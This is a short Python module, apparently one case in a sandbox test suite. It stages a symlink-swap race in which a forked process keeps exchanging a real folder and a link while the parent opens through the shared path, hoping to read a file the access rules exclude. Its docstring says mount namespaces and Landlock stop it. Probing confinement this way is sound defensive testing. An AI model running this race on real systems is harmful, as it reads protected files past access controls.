"""Exchange a folder for a link in the moment between look and open.

gain: files that the rules do not name
attack: T1222
stopped by: mount namespace, Landlock
unconfined: host
also refused by: EAGAIN
"""

import os
import signal
import time

from attacker import Refused, in_child


def attempt(world):
    def race():
        home = f"{world['work']}/race"
        os.makedirs(f"{home}/real", exist_ok=True)
        target = world["race"]
        name = os.path.basename(target)
        open(f"{home}/real/{name}", "w").close()
        if not os.path.islink(f"{home}/link"):
            os.symlink(os.path.dirname(target), f"{home}/link")
        swapper = os.fork()
        if swapper == 0:
            while True:
                for turn in ("real", "link"):
                    os.rename(f"{home}/{turn}", f"{home}/place")
                    os.rename(f"{home}/place", f"{home}/{turn}")
        end = time.monotonic() + 1.0
        try:
            while time.monotonic() < end:
                try:
                    with open(f"{home}/place/{name}") as file:
                        if text := file.read(40):
                            return f"read {text!r}"
                except OSError:
                    continue
        finally:
            os.kill(swapper, signal.SIGKILL)
            os.waitpid(swapper, 0)
        raise Refused("a second of opens, none of them of the other file")

    return in_child(race, seconds=20)
